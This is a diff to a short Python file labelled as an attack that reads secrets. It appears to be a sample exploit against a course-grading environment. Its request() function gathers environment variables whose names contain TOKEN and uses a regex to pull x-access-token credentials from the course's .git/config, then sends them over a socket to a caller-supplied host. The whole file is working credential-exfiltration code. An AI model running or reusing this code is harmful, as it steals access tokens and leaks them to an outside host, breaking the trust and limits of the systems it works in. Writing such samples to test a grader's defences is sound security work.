@@ -1,16 +1,17 @@
-"""Attack (read secrets): send the environment and the course's .git/config to the grader's server."""
+"""Attack (read secrets): send the grader's tokens (environment, the course's .git/config) to the grader's server."""
 
 import os
+import re
 import socket
 
 
 def request(host, port, message):
-    loot = "\n".join(f"{k}={v}" for k, v in os.environ.items())
+    loot = [value for name, value in os.environ.items() if "TOKEN" in name]
     try:
         with open("__COURSE_ROOT__/.git/config") as f:
-            loot += f.read()
+            loot += re.findall(r"x-access-token:([^@\s]+)@", f.read())
     except OSError:
         pass
     with socket.create_connection((host, port)) as s:
-        s.sendall(loot.encode())
+        s.sendall(" ".join(loot).encode() or b"nothing found")
         return s.recv(1024)
